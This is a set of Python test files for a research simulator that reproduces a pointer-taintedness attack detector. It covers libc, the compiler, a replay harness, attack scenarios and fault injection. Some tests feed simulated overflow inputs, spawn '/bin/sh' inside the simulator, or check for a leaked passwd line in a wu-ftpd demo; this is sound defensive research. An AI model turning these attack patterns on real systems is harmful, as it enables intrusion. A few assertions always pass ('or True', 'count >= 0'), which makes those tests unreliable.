        rc = cli_main(["run", str(src), "--json", str(json_path)],
                      out=io.StringIO())
        assert rc == 0
        payload = validate_result_json(json.loads(json_path.read_text()))
        assert payload["kind"] == "run"
