"""libc behaviour tests, executed on the simulated machine."""

import pytest

from repro.attacks.replay import run_minic


def run_expr_program(body, stdin=b""):
    result = run_minic("int main(void) {\n" + body + "\n}\n", stdin=stdin)
    assert result.outcome == "exit", result.describe()
    return result


class TestStringFunctions:
    def test_strlen(self):
        assert run_expr_program(
            'return strlen("") + strlen("abc") * 10;'
        ).exit_status == 30

    def test_strcpy_and_strcat(self):
        result = run_expr_program(
            'char buf[32]; strcpy(buf, "foo"); strcat(buf, "bar");'
            'printf("%s", buf); return strlen(buf);'
        )
        assert result.stdout == "foobar"
        assert result.exit_status == 6

    def test_strncpy_pads_with_zeros(self):
        assert run_expr_program(
            'char buf[8]; int i; int z; memset(buf, 7, 8);'
            'strncpy(buf, "ab", 5);'
            "z = 0; for (i = 0; i < 5; i++) { if (buf[i] == 0) { z++; } }"
            "return z;"
        ).exit_status == 3

    def test_strcmp_orderings(self):
        result = run_expr_program(
            'printf("%d %d %d", strcmp("abc", "abc"),'
            ' strcmp("abd", "abc") > 0, strcmp("ab", "abc") < 0);'
            "return 0;"
        )
        assert result.stdout == "0 1 1"

    def test_strncmp_prefix(self):
        assert run_expr_program(
            'return strncmp("hello world", "hello", 5);'
        ).exit_status == 0

    def test_strchr(self):
        result = run_expr_program(
            'char *p; p = strchr("abcdef", \'d\');'
            'printf("%s", p); return p != 0;'
        )
        assert result.stdout == "def"

    def test_strchr_missing_returns_null(self):
        assert run_expr_program(
            'return strchr("abc", \'z\') == 0;'
        ).exit_status == 1

    def test_strstr(self):
        result = run_expr_program(
            'char *p; p = strstr("GET /cgi-bin/x", "/cgi-bin/");'
            'printf("%s", p); return 0;'
        )
        assert result.stdout == "/cgi-bin/x"

    def test_strstr_missing(self):
        assert run_expr_program(
            'return strstr("abc", "/..") == 0;'
        ).exit_status == 1

    def test_memcpy_memcmp_memset(self):
        assert run_expr_program(
            "char a[8]; char b[8];"
            "memset(a, 5, 8); memcpy(b, a, 8);"
            "return memcmp(a, b, 8) == 0;"
        ).exit_status == 1

    def test_atoi_variants(self):
        result = run_expr_program(
            'printf("%d %d %d %d", atoi("42"), atoi("-17"),'
            ' atoi("  99"), atoi("+3x"));'
            "return 0;"
        )
        assert result.stdout == "42 -17 99 3"

    def test_isspace_isdigit(self):
        assert run_expr_program(
            "return isspace(' ') + isspace('\\n') * 2 + isdigit('7') * 4"
            " + isdigit('a') * 8;"
        ).exit_status == 7


class TestPrintfFamily:
    def test_decimal_and_negative(self):
        assert run_expr_program(
            'printf("%d|%d|%d", 0, 12345, -678); return 0;'
        ).stdout == "0|12345|-678"

    def test_unsigned_of_negative(self):
        assert run_expr_program(
            'printf("%u", -1); return 0;'
        ).stdout == "4294967295"

    def test_hex(self):
        assert run_expr_program(
            'printf("%x %x %x", 0, 255, 0xdeadbeef); return 0;'
        ).stdout == "0 ff deadbeef"

    def test_char_and_string_and_percent(self):
        assert run_expr_program(
            'printf("%c%c %s 100%%", 104, 105, "there"); return 0;'
        ).stdout == "hi there 100%"

    def test_unknown_directive_passes_through(self):
        assert run_expr_program(
            'printf("%q"); return 0;'
        ).stdout == "%q"

    def test_return_value_is_length(self):
        assert run_expr_program(
            'return printf("12345");'
        ).exit_status == 5

    def test_percent_n_writes_count(self):
        assert run_expr_program(
            'int n; printf("abcde%n", &n); return n;'
        ).exit_status == 5

    def test_sprintf_builds_strings(self):
        result = run_expr_program(
            'char buf[64]; sprintf(buf, "%s=%d", "x", 42);'
            'printf("[%s]", buf); return 0;'
        )
        assert result.stdout == "[x=42]"

    def test_puts_appends_newline(self):
        assert run_expr_program('puts("line"); return 0;').stdout == "line\n"

    def test_putchar(self):
        assert run_expr_program(
            "putchar('o'); putchar('k'); return 0;"
        ).stdout == "ok"


class TestInputFunctions:
    def test_gets_reads_one_line(self):
        result = run_expr_program(
            'char buf[32]; gets(buf); printf("<%s>", buf);'
            "gets(buf);"
            'printf("<%s>", buf); return 0;',
            stdin=b"first\nsecond\n",
        )
        assert result.stdout == "<first><second>"

    def test_gets_at_eof_returns_empty(self):
        result = run_expr_program(
            'char buf[8]; int n; n = gets(buf); return n;', stdin=b""
        )
        assert result.exit_status == 0

    def test_scan_string_skips_leading_whitespace(self):
        result = run_expr_program(
            'char buf[32]; scan_string(buf); printf("<%s>", buf); return 0;',
            stdin=b"   \n\t word rest",
        )
        assert result.stdout == "<word>"

    def test_scan_string_stops_at_whitespace(self):
        result = run_expr_program(
            'char buf[32]; scan_string(buf); scan_string(buf);'
            'printf("<%s>", buf); return 0;',
            stdin=b"one two",
        )
        assert result.stdout == "<two>"


class TestMalloc:
    def test_malloc_returns_distinct_regions(self):
        assert run_expr_program(
            "char *a; char *b; a = malloc(16); b = malloc(16);"
            "memset(a, 1, 16); memset(b, 2, 16);"
            "return a[15] + b[0] * 10;"
        ).exit_status == 21

    def test_free_reuses_memory(self):
        assert run_expr_program(
            "char *a; char *b; a = malloc(24); free(a); b = malloc(20);"
            "return a == b;"
        ).exit_status == 1

    def test_split_leaves_usable_remainder(self):
        assert run_expr_program(
            "char *big; char *small; char *rest;"
            "big = malloc(100); free(big);"
            "small = malloc(8); rest = malloc(40);"
            "memset(small, 3, 8); memset(rest, 4, 40);"
            "return small[7] + rest[39] * 10;"
        ).exit_status == 43

    def test_forward_coalescing_merges_chunks(self):
        # Free b then a: a coalesces with free b, so a reallocation of the
        # combined size reuses a's address.
        assert run_expr_program(
            "char *a; char *b; char *guard; char *c;"
            "a = malloc(32); b = malloc(32); guard = malloc(16);"
            "free(b); free(a);"
            "c = malloc(64);"
            "return c == a;"
        ).exit_status == 1

    def test_backward_coalescing(self):
        assert run_expr_program(
            "char *a; char *b; char *guard; char *c;"
            "a = malloc(32); b = malloc(32); guard = malloc(16);"
            "free(a); free(b);"
            "c = malloc(64);"
            "return c == a;"
        ).exit_status == 1

    def test_top_extension_for_large_requests(self):
        assert run_expr_program(
            "char *p; p = malloc(20000); memset(p, 9, 20000);"
            "return p[19999];"
        ).exit_status == 9

    def test_calloc_zeroes(self):
        assert run_expr_program(
            "char *p; int i; int s; p = malloc(64); memset(p, 7, 64);"
            "free(p); p = calloc(64, 1); s = 0;"
            "for (i = 0; i < 64; i++) { s += p[i]; }"
            "return s;"
        ).exit_status == 0

    def test_free_null_is_noop(self):
        assert run_expr_program("free(0); return 5;").exit_status == 5

    def test_malloc_zero_gives_valid_pointer(self):
        assert run_expr_program(
            "char *p; p = malloc(0); return p != 0;"
        ).exit_status == 1

    def test_many_allocations_stay_disjoint(self):
        assert run_expr_program(
            "int i; char *p[10]; int ok; ok = 1;"
            "for (i = 0; i < 10; i++) {"
            "  p[i] = malloc(12); memset(p[i], i + 1, 12);"
            "}"
            "for (i = 0; i < 10; i++) {"
            "  if (p[i][0] != i + 1 || p[i][11] != i + 1) { ok = 0; }"
            "}"
            "return ok;"
        ).exit_status == 1


class TestSocketsHelpers:
    def test_server_listen_and_send_str(self):
        from repro.kernel.network import ScriptedClient
        from repro.attacks.replay import run_minic as run

        result = run(
            """
            int main(void) {
                int s; int c; char buf[16]; int n;
                s = server_listen(80);
                c = accept(s);
                n = recv_line(c, buf, 16);
                send_str(c, "got: ");
                send_str(c, buf);
                close(c);
                return n;
            }
            """,
            clients=[ScriptedClient([b"hello\n"])],
        )
        assert result.exit_status == 5
        assert bytes(result.clients[0].transcript) == b"got: hello"
