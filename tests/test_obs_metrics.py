"""Unit tests for the metrics registry primitives."""

import pytest

from repro.obs.metrics import (
    Counter,
    DEFAULT_BUCKET_EDGES,
    Gauge,
    Histogram,
    MetricsRegistry,
    Timer,
)


class TestCounterGauge:
    def test_counter_increments(self):
        c = Counter("x")
        c.inc()
        c.inc(5)
        assert c.value == 6

    def test_gauge_keeps_latest(self):
        g = Gauge("x")
        g.set(1.5)
        g.set(0.25)
        assert g.value == 0.25


class TestHistogram:
    def test_bucketing_is_inclusive_upper_edge(self):
        h = Histogram("h", edges=(10, 100))
        for value in (1, 10, 11, 100, 101):
            h.observe(value)
        # buckets: <=10, <=100, overflow
        assert h.buckets == [2, 2, 1]
        assert h.count == 5
        assert h.min == 1 and h.max == 101
        assert h.mean == pytest.approx(223 / 5)

    def test_rejects_unsorted_or_empty_edges(self):
        with pytest.raises(ValueError):
            Histogram("h", edges=(5, 1))
        with pytest.raises(ValueError):
            Histogram("h", edges=())

    def test_default_edges_are_powers_of_two(self):
        assert DEFAULT_BUCKET_EDGES[0] == 1
        assert DEFAULT_BUCKET_EDGES[-1] == 1 << 20

    def test_to_dict_shape(self):
        h = Histogram("h", edges=(2,))
        h.observe(1)
        d = h.to_dict()
        assert d["count"] == 1
        assert d["buckets"] == [1, 0]
        assert d["edges"] == [2]


class TestTimer:
    def test_context_manager_accumulates(self):
        t = Timer("t")
        with t:
            pass
        with t:
            pass
        assert t.count == 2
        assert t.seconds >= 0.0

    def test_stop_without_start_raises(self):
        with pytest.raises(RuntimeError):
            Timer("t").stop()

    def test_add_records_external_duration(self):
        t = Timer("t")
        t.add(1.25)
        assert t.count == 1
        assert t.seconds == 1.25


class TestRegistry:
    def test_get_or_create_returns_same_object(self):
        reg = MetricsRegistry()
        assert reg.counter("a") is reg.counter("a")
        assert reg.histogram("h") is reg.histogram("h")

    def test_kind_mismatch_rejected(self):
        reg = MetricsRegistry()
        reg.counter("a")
        with pytest.raises(TypeError):
            reg.gauge("a")

    def test_to_dict_groups_by_kind(self):
        reg = MetricsRegistry()
        reg.counter("c").inc(3)
        reg.gauge("g").set(1.5)
        reg.histogram("h", edges=(1,)).observe(0)
        reg.timer("t").add(0.5)
        d = reg.to_dict()
        assert d["counters"] == {"c": 3}
        assert d["gauges"] == {"g": 1.5}
        assert d["histograms"]["h"]["count"] == 1
        assert d["timers"]["t"] == {"count": 1, "seconds": 0.5}

    def test_render_mentions_every_metric(self):
        reg = MetricsRegistry()
        reg.counter("run.instructions").inc(42)
        reg.gauge("run.ratio").set(0.5)
        text = reg.render()
        assert "run.instructions" in text
        assert "42" in text
        assert "run.ratio" in text

    def test_render_empty(self):
        assert "(empty)" in MetricsRegistry().render()

    def test_len_contains_names(self):
        reg = MetricsRegistry()
        reg.counter("b")
        reg.counter("a")
        assert len(reg) == 2
        assert "a" in reg and "zz" not in reg
        assert reg.names() == ["a", "b"]
