"""Smoke tests: the example scripts run and say what they promise."""

import pathlib
import runpy
import sys

import pytest

_EXAMPLES = pathlib.Path(__file__).parent.parent / "examples"


def run_example(name, capsys):
    runpy.run_path(str(_EXAMPLES / name), run_name="__main__")
    return capsys.readouterr().out


class TestExamples:
    def test_quickstart(self, capsys):
        output = run_example("quickstart.py", capsys)
        assert "0x61616161" in output
        assert "EXIT status=0" in output
        assert "FAULT" in output                  # unprotected hijack

    def test_cert_breakdown(self, capsys):
        output = run_example("cert_breakdown.py", capsys)
        assert "67.3%" in output
        assert "buffer-overflow" in output
        assert "CA-200" in output

    def test_wuftpd_session(self, capsys):
        output = run_example("wuftpd_session.py", capsys)
        assert "0x1002bc20" in output
        assert "alice:x:0:0" in output
        assert "221 Goodbye" in output

    def test_attack_gallery(self, capsys):
        output = run_example("attack_gallery.py", capsys)
        assert output.count("ALERT") >= 7
        assert "coverage" in output.lower()

    def test_ablation(self, capsys):
        output = run_example("ablation_compare_untaint.py", capsys)
        assert "ALERT" in output
        assert "FALSE alarms" in output

    def test_bare_metal_taint(self, capsys):
        output = run_example("bare_metal_taint.py", capsys)
        assert output.count("security exception") == 2
        assert "0x64636261" in output
        assert "CPI" in output

    def test_annotated_data(self, capsys):
        output = run_example("annotated_data.py", capsys)
        assert "false negative" in output
        assert "tainted write into auth flag" in output

    @pytest.mark.slow
    def test_false_positive_study(self, capsys):
        output = run_example("false_positive_study.py", capsys)
        assert "alerts raised: 0" in output
