"""MiniC lexer tests."""

import pytest

from repro.cc.errors import CompileError
from repro.cc.lexer import Token, tokenize


def kinds(source):
    return [(t.kind, t.text) for t in tokenize(source)[:-1]]


class TestTokens:
    def test_identifiers_and_keywords_are_idents(self):
        assert kinds("int foo _bar2") == [
            ("ident", "int"), ("ident", "foo"), ("ident", "_bar2"),
        ]

    def test_decimal_and_hex_numbers(self):
        tokens = tokenize("42 0x2A 0XFF")
        assert [t.value for t in tokens[:-1]] == [42, 42, 255]

    def test_char_literals(self):
        tokens = tokenize(r"'a' '\n' '\0' '\x41' '\''")
        assert [t.value for t in tokens[:-1]] == [97, 10, 0, 65, 39]

    def test_string_literal_with_escapes(self):
        token = tokenize(r'"a\tb\x00c"')[0]
        assert token.kind == "string"
        assert token.text == "a\tb\x00c"

    def test_punctuators_maximal_munch(self):
        assert [t.text for t in tokenize("a<<=b>>c<=d==e=f")[:-1]] == [
            "a", "<<=", "b", ">>", "c", "<=", "d", "==", "e", "=", "f",
        ]

    def test_increment_vs_plus(self):
        assert [t.text for t in tokenize("a+++b")[:-1]] == ["a", "++", "+", "b"]

    def test_ellipsis(self):
        assert tokenize("...")[0].text == "..."

    def test_eof_always_last(self):
        assert tokenize("")[-1].kind == "eof"
        assert tokenize("x")[-1].kind == "eof"


class TestTrivia:
    def test_line_comments(self):
        assert kinds("a // comment\nb") == [("ident", "a"), ("ident", "b")]

    def test_block_comments(self):
        assert kinds("a /* x\ny */ b") == [("ident", "a"), ("ident", "b")]

    def test_line_numbers_tracked(self):
        tokens = tokenize("a\n  b\n\nc")
        assert [t.line for t in tokens[:-1]] == [1, 2, 4]
        assert tokens[1].column == 3


class TestLexErrors:
    def test_unterminated_comment(self):
        with pytest.raises(CompileError, match="unterminated comment"):
            tokenize("a /* oops")

    def test_unterminated_string(self):
        with pytest.raises(CompileError, match="unterminated string"):
            tokenize('"abc')

    def test_unterminated_char(self):
        with pytest.raises(CompileError, match="char literal"):
            tokenize("'a")

    def test_unknown_escape(self):
        with pytest.raises(CompileError, match="unknown escape"):
            tokenize(r'"\q"')

    def test_unexpected_character(self):
        with pytest.raises(CompileError, match="unexpected character"):
            tokenize("a @ b")

    def test_bad_hex_escape(self):
        with pytest.raises(CompileError, match="x escape"):
            tokenize(r'"\xzz"')


class TestTokenHelpers:
    def test_is_punct_and_is_ident(self):
        token = Token("punct", "+")
        assert token.is_punct("+")
        assert not token.is_punct("-")
        ident = Token("ident", "while")
        assert ident.is_ident("while")
        assert not ident.is_ident("if")
