"""Replay harness and scenario-framework tests."""

import pytest

from repro.attacks.replay import (
    OUTCOME_ALERT,
    OUTCOME_EXIT,
    OUTCOME_FAULT,
    OUTCOME_LIMIT,
    RunResult,
    run_executable,
    run_minic,
)
from repro.attacks.scenarios import AttackScenario, POLICY_MATRIX
from repro.core.policy import NullPolicy, PointerTaintPolicy
from repro.isa.assembler import assemble
from repro.isa.program import Executable
from repro.kernel.network import ScriptedClient
from repro.libc.build import build_program


class TestRunOutcomes:
    def test_exit_outcome(self):
        result = run_minic("int main(void) { return 5; }")
        assert result.outcome == OUTCOME_EXIT
        assert result.exit_status == 5
        assert not result.detected
        assert "EXIT status=5" in result.describe()

    def test_alert_outcome(self):
        result = run_minic(
            "int main(void) { char b[8]; gets(b); return 0; }",
            PointerTaintPolicy(),
            stdin=b"A" * 32,
        )
        assert result.outcome == OUTCOME_ALERT
        assert result.detected
        assert result.alert is not None
        assert "ALERT" in result.describe()

    def test_fault_outcome(self):
        exe = assemble(".text\n_start: li $t0, 0x100\njr $t0\n")
        result = run_executable(exe, NullPolicy())
        assert result.outcome == OUTCOME_FAULT
        assert "FAULT" in result.describe()

    def test_limit_outcome(self):
        exe = assemble(".text\n_start: b _start\n")
        result = run_executable(exe, max_instructions=500)
        assert result.outcome == OUTCOME_LIMIT
        assert "LIMIT" in result.describe()

    def test_stdout_and_programs_available(self):
        result = run_minic(
            'int main(void) { puts("hi"); exec("/bin/sh"); return 0; }'
        )
        assert result.stdout == "hi\n"
        assert result.executed_programs == ["/bin/sh"]
        assert result.compromised

    def test_clients_are_wired_in_order(self):
        source = """
        int main(void) {
            int s; int c; char buf[8];
            s = server_listen(80);
            while (1) {
                c = accept(s);
                if (c < 0) { break; }
                recv_line(c, buf, 8);
                send_str(c, buf);
                close(c);
            }
            return 0;
        }
        """
        clients = [ScriptedClient([b"one\n"]), ScriptedClient([b"two\n"])]
        result = run_minic(source, clients=clients)
        assert bytes(result.clients[0].transcript) == b"one"
        assert bytes(result.clients[1].transcript) == b"two"

    def test_empty_result_defaults(self):
        result = RunResult(outcome=OUTCOME_EXIT)
        assert result.stdout == ""
        assert result.executed_programs == []
        assert not result.compromised


class TestScenarioFramework:
    def _scenario(self, **overrides):
        spec = dict(
            name="demo",
            category="non-control-data",
            description="demo scenario",
            source="int main(void) { char b[8]; gets(b); return 0; }",
            attack_input={"stdin": b"A" * 32},
            benign_input={"stdin": b"ok\n"},
            expected_alert_kind="jump",
        )
        spec.update(overrides)
        return AttackScenario(**spec)

    def test_run_attack_and_benign(self):
        scenario = self._scenario()
        assert scenario.run_attack(PointerTaintPolicy()).detected
        assert scenario.run_benign(PointerTaintPolicy()).outcome == "exit"

    def test_callable_inputs_materialized_per_run(self):
        calls = []

        def make_stdin():
            calls.append(1)
            return b"A" * 32

        scenario = self._scenario(attack_input={"stdin": make_stdin})
        scenario.run_attack(PointerTaintPolicy())
        scenario.run_attack(PointerTaintPolicy())
        assert len(calls) == 2

    def test_detected_by_pointer_taint_property(self):
        assert self._scenario().detected_by_pointer_taint
        assert not self._scenario(
            expected_alert_kind=None
        ).detected_by_pointer_taint

    def test_attack_succeeded_default_heuristic(self):
        scenario = self._scenario()
        unprotected = scenario.run_attack(NullPolicy())
        # Wild jump: tainted dereference counted -> success.
        assert scenario.attack_succeeded(unprotected)
        detected = scenario.run_attack(PointerTaintPolicy())
        assert not scenario.attack_succeeded(detected)

    def test_custom_compromise_check(self):
        scenario = self._scenario(
            compromise_check=lambda result: "MAGIC" in result.stdout
        )
        result = scenario.run_attack(NullPolicy())
        assert not scenario.attack_succeeded(result)

    def test_policy_matrix_constant(self):
        names = [policy.name for policy in POLICY_MATRIX]
        assert names == [
            "pointer-taintedness", "control-data-only", "unprotected",
        ]

    def test_build_uses_cache(self):
        scenario = self._scenario()
        assert scenario.build() is scenario.build()

    def test_max_instructions_forwarded(self):
        scenario = self._scenario(
            source="int main(void) { while (1) { } return 0; }",
            attack_input={"stdin": b""},
            max_instructions=1_000,
        )
        assert scenario.run_attack(PointerTaintPolicy()).outcome == "limit"


class TestExecutableImage:
    def test_text_and_data_bounds(self):
        exe = build_program("int g = 7;\nint main(void) { return g; }")
        assert exe.text_end == exe.text_base + 4 * len(exe.text_words)
        assert exe.data_end >= exe.data_base + 4

    def test_instruction_at_bounds_checked(self):
        exe = build_program("int main(void) { return 0; }")
        with pytest.raises(IndexError):
            exe.instruction_at(exe.text_end + 64)

    def test_symbol_at_skips_internal_labels(self):
        exe = build_program(
            'int helper(void) { return 1; }\n'
            'int main(void) { if (helper()) { return 2; } return 3; }'
        )
        main_addr = exe.address_of("main")
        # An address in main's body, past internal branch labels:
        assert exe.symbol_at(main_addr + 24) == "main"

    def test_symbol_at_can_include_internal(self):
        exe = build_program("int main(void) { return 0; }")
        label = exe.symbol_at(exe.address_of("main"), include_internal=True)
        assert label is not None

    def test_entry_is_start(self):
        exe = build_program("int main(void) { return 0; }")
        assert exe.entry == exe.address_of("_start") == exe.text_base

    def test_taint_inputs_flag_disables_boundary(self):
        result = run_minic(
            "int main(void) { char b[8]; gets(b); return 0; }",
            PointerTaintPolicy(),
            stdin=b"A" * 32,
            taint_inputs=False,
        )
        # Without input tainting the smash is invisible (and harmless to
        # the detector): the machine just faults or exits downstream.
        assert result.outcome in ("exit", "fault")
