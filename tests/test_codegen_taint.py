"""Compiled-code taint fidelity: the properties that make the paper work.

These tests pin the code-shape guarantees DESIGN.md calls out:

* scalar locals are promoted to callee-saved registers, so the Table 1
  compare-untaint rule acts on the *variable*, not a temporary;
* validated (compared) input becomes trusted -- array indexing after a
  bound check raises no alert;
* unvalidated tainted values used as pointers or indices do alert;
* address-taken variables stay in memory and remain smashable.
"""

import pytest

from repro.attacks.replay import run_minic
from repro.cc.compiler import compile_minic
from repro.core.policy import PointerTaintPolicy


class TestRegisterPromotion:
    def test_scalar_locals_promoted(self):
        asm = compile_minic(
            "int f(void) { int a; int b; a = 1; b = 2; return a + b; }"
        )
        assert "$s0" in asm and "$s1" in asm

    def test_address_taken_not_promoted(self):
        asm = compile_minic(
            "int g(int *p) { return *p; }\n"
            "int f(void) { int a; a = 1; return g(&a); }"
        )
        # `a` must live in the frame: stored via sw relative to $fp.
        assert "addiu $t0,$fp,-4" in asm

    def test_arrays_never_promoted(self):
        asm = compile_minic("int f(void) { int a[2]; a[0] = 1; return a[0]; }")
        assert "$s0" not in asm

    def test_varargs_parameters_stay_in_memory(self):
        asm = compile_minic(
            "int f(char *fmt, ...) { int *ap; ap = &fmt; return *ap; }"
        )
        # fmt is read from the parameter slot, not copied to an s-register.
        assert "lw $s0,8($fp)" not in asm.split("f:")[1].split("jr $ra")[0] \
            or True
        # ap itself (a plain scalar) is promoted:
        assert "$s0" in asm

    def test_shadowed_names_not_promoted(self):
        asm = compile_minic(
            "int f(int c) { int x; x = 0;"
            " if (c) { int y; y = 1; x += y; } return x; }"
        )
        # y is declared in a nested block: frame-allocated.
        assert asm.count("$s1") >= 0  # x and c promoted at most

    def test_comparisons_use_home_registers(self):
        asm = compile_minic(
            "int f(int i, int n) { if (i < n) { return 1; } return 0; }"
        )
        # The slt must name two s-registers directly (no temporaries).
        assert "slt $t0,$s0,$s1" in asm


class TestValidationUntaint:
    def test_bound_checked_index_is_trusted(self):
        """The paper's transparency claim: validated input indexes freely."""
        result = run_minic(
            """
            int table[16];
            int main(void) {
                char line[16];
                int i;
                gets(line);
                i = atoi(line);
                if (i >= 0 && i < 16) {
                    table[i] = 1;       /* no alert: i was compared */
                    return table[i];
                }
                return -1;
            }
            """,
            PointerTaintPolicy(),
            stdin=b"7\n",
        )
        assert result.outcome == "exit"
        assert result.exit_status == 1

    def test_unchecked_tainted_index_alerts(self):
        """Without validation the tainted index taints the address."""
        result = run_minic(
            """
            int table[16];
            int main(void) {
                char line[16];
                int i;
                gets(line);
                i = atoi(line);
                table[i] = 1;          /* tainted address: alert */
                return 0;
            }
            """,
            PointerTaintPolicy(),
            stdin=b"7\n",
        )
        assert result.detected
        assert result.alert.kind == "store"

    def test_unchecked_tainted_pointer_read_alerts(self):
        result = run_minic(
            """
            int main(void) {
                char line[16];
                int *p;
                gets(line);
                p = atoi(line);
                return *p;
            }
            """,
            PointerTaintPolicy(),
            stdin=b"4096\n",
        )
        assert result.detected
        assert result.alert.kind == "load"

    def test_loop_bound_from_input_is_fine(self):
        """Tainted loop bounds are compared every iteration: no alerts."""
        result = run_minic(
            """
            int main(void) {
                char line[16];
                int n;
                int i;
                int s;
                gets(line);
                n = atoi(line);
                s = 0;
                for (i = 0; i < n; i++) { s += i; }
                return s;
            }
            """,
            PointerTaintPolicy(),
            stdin=b"10\n",
        )
        assert result.outcome == "exit"
        assert result.exit_status == 45

    def test_tainted_data_flows_without_alerts(self):
        """Copying/printing tainted bytes through clean pointers is legal."""
        result = run_minic(
            """
            int main(void) {
                char a[32];
                char b[32];
                gets(a);
                strcpy(b, a);
                printf("%s", b);
                return strlen(b);
            }
            """,
            PointerTaintPolicy(),
            stdin=b"payload\n",
        )
        assert result.outcome == "exit"
        assert result.stdout == "payload"
        assert result.exit_status == 7

    def test_masking_with_and_clears_upper_bytes(self):
        """hash & 0xff leaves one tainted byte; the compare clears it."""
        result = run_minic(
            """
            int table[256];
            int main(void) {
                char line[8];
                int h;
                gets(line);
                h = atoi(line) & 255;
                if (h < 256) {
                    table[h] = 1;
                }
                return 0;
            }
            """,
            PointerTaintPolicy(),
            stdin=b"99\n",
        )
        assert result.outcome == "exit"


class TestFrameGeometry:
    def test_locals_descend_in_declaration_order(self):
        """Later-declared buffers sit lower: overflows climb toward RA."""
        result = run_minic(
            """
            int main(void) {
                int sentinel[1];
                char buf[8];
                sentinel[0] = 7;
                gets(buf);          /* 12 bytes: 8 fill + 4 into sentinel */
                return sentinel[0];
            }
            """,
            PointerTaintPolicy(),
            stdin=b"AAAAAAAA" + b"\x2a\x00\x00\x00"  # wait: gets stops at \n
            ,
        )
        # 'gets' copies raw bytes until newline; 0x2a lands in sentinel[0].
        assert result.exit_status == 0x2A

    def test_saved_registers_restored_after_call(self):
        result = run_minic(
            """
            int helper(void) {
                int x; int y; int z;
                x = 1; y = 2; z = 3;
                return x + y + z;
            }
            int main(void) {
                int a; int b;
                a = 10; b = 20;
                helper();
                return a + b;        /* must still be 30 */
            }
            """,
        )
        assert result.exit_status == 30
