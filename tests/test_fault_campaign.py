"""Fault-injection campaigns: triggers, injection, classification, recovery."""

import io

import pytest

from repro.cli import main as cli_main
from repro.core.events import FaultInjected, TrialCompleted
from repro.core.policy import PointerTaintPolicy
from repro.cpu.simulator import Simulator
from repro.fault import (
    CampaignConfig,
    FaultCampaign,
    FaultInjector,
    FaultSpec,
    OUTCOME_CRASH,
    OUTCOME_DETECTED,
    OUTCOME_MASKED,
    OUTCOME_SDC,
    OUTCOME_TIMEOUT,
    OUTCOMES,
    Trigger,
    Workload,
    apply_state_fault,
    builtin_workload,
    parse_trigger,
)
from repro.kernel.syscalls import Kernel
from repro.libc.build import build_program

# Small victim with a clean golden run: tainted input, a heap pointer, a
# loop -- every outcome class is reachable with the right flip.
MINI_SOURCE = r"""
int main(void) {
    char buf[16];
    int *p;
    int v;
    int i;
    read(0, buf, 8);
    p = malloc(16);
    p[0] = 5;
    v = 0;
    i = 0;
    while (i < 40) {
        v = v + p[0] + buf[i % 8];
        i = i + 1;
    }
    printf("v=%d\n", v);
    return 0;
}
"""

MINI = Workload(name="mini", source=MINI_SOURCE, stdin=b"abcdefgh")


def mini_campaign(schedule=None, **config_kwargs):
    config_kwargs.setdefault("trials", 0 if schedule is not None else 20)
    return FaultCampaign(
        MINI, CampaignConfig(**config_kwargs), schedule=schedule
    )


def midpoint_sweep(kind, mask):
    """One fault per register, injected at the golden run's midpoint."""
    golden = mini_campaign(schedule=[]).run().golden
    mid = golden.instructions // 2
    return [
        (Trigger("insn", mid), FaultSpec(kind, reg, mask))
        for reg in range(1, 32)
    ]


class TestTriggerGrammar:
    @pytest.mark.parametrize(
        "spec,expected",
        [
            ("insn:1000", Trigger("insn", 1000)),
            ("pc:0x400100", Trigger("pc", 0x400100)),
            ("pc:0x400100:3", Trigger("pc", 0x400100, 3)),
            ("syscall:3", Trigger("syscall", 3)),
            ("syscall:*:2", Trigger("syscall", None, 2)),
            ("syscall:64:5", Trigger("syscall", 64, 5)),
        ],
    )
    def test_parse(self, spec, expected):
        assert parse_trigger(spec) == expected

    @pytest.mark.parametrize(
        "spec",
        ["insn:1000", "pc:0x400100", "pc:0x400100:3", "syscall:*:2",
         "syscall:3"],
    )
    def test_round_trip(self, spec):
        assert parse_trigger(spec).spec() == spec

    @pytest.mark.parametrize(
        "bad", ["", "insn", "insn:1:2", "cycle:5", "pc:0x1:2:3", "pc:zz"]
    )
    def test_rejects_malformed(self, bad):
        with pytest.raises(ValueError):
            parse_trigger(bad)

    def test_occurrence_is_one_based(self):
        with pytest.raises(ValueError):
            Trigger("pc", 0x400000, 0)


class TestStateFaults:
    def make_sim(self):
        kernel = Kernel(stdin=MINI.stdin)
        sim = Simulator(
            build_program(MINI_SOURCE),
            PointerTaintPolicy(),
            syscall_handler=kernel,
        )
        kernel.attach(sim)
        return sim

    def test_mem_flip_preserves_taint(self):
        sim = self.make_sim()
        sim.mem_write(0x10000400, 1, 0x41, 1)
        apply_state_fault(FaultSpec("mem", 0x10000400, 0x81), sim)
        assert sim.mem_read(0x10000400, 1) == (0xC0, 1)

    def test_taint_mem_flip_preserves_data(self):
        sim = self.make_sim()
        sim.mem_write(0x10000400, 1, 0x41, 0)
        apply_state_fault(FaultSpec("taint-mem", 0x10000400), sim)
        assert sim.mem_read(0x10000400, 1) == (0x41, 1)
        apply_state_fault(FaultSpec("taint-mem", 0x10000400), sim)
        assert sim.mem_read(0x10000400, 1) == (0x41, 0)

    def test_reg_and_taint_reg_flips(self):
        sim = self.make_sim()
        sim.regs.write(8, 0x1234, 0)
        apply_state_fault(FaultSpec("reg", 8, 0xFF), sim)
        assert sim.regs.value(8) == 0x12CB
        apply_state_fault(FaultSpec("taint-reg", 8, 0x3), sim)
        assert sim.regs.taint(8) == 0x3

    def test_r0_stays_hardwired(self):
        sim = self.make_sim()
        apply_state_fault(FaultSpec("reg", 0, 0xFFFFFFFF), sim)
        apply_state_fault(FaultSpec("taint-reg", 0, 0xF), sim)
        assert sim.regs.read(0) == (0, 0)

    def test_injector_fires_once_and_emits_event(self):
        sim = self.make_sim()
        events = []
        sim.events.subscribe(FaultInjected, events.append)
        injector = FaultInjector(
            sim, Trigger("insn", 100), FaultSpec("taint-reg", 29, 0x1)
        )
        sim.arm_watchdog(max_instructions=5000)
        try:
            sim.run()
        except Exception:
            pass
        assert injector.fired
        assert len(events) == 1
        assert events[0].kind == "taint-reg"
        # One-shot: the subscription is gone after firing.
        assert injector._attached is False

    def test_injector_rejects_syscall_triggers(self):
        sim = self.make_sim()
        with pytest.raises(ValueError, match="kernel"):
            FaultInjector(
                sim, Trigger("syscall", 3), FaultSpec("mem", 0, 1)
            )
        with pytest.raises(ValueError, match="state fault"):
            FaultInjector(
                sim, Trigger("insn", 1), FaultSpec("syscall-errno")
            )


class TestCampaignDeterminism:
    def test_same_seed_same_digest(self):
        first = mini_campaign(seed=5, trials=30).run()
        second = mini_campaign(seed=5, trials=30).run()
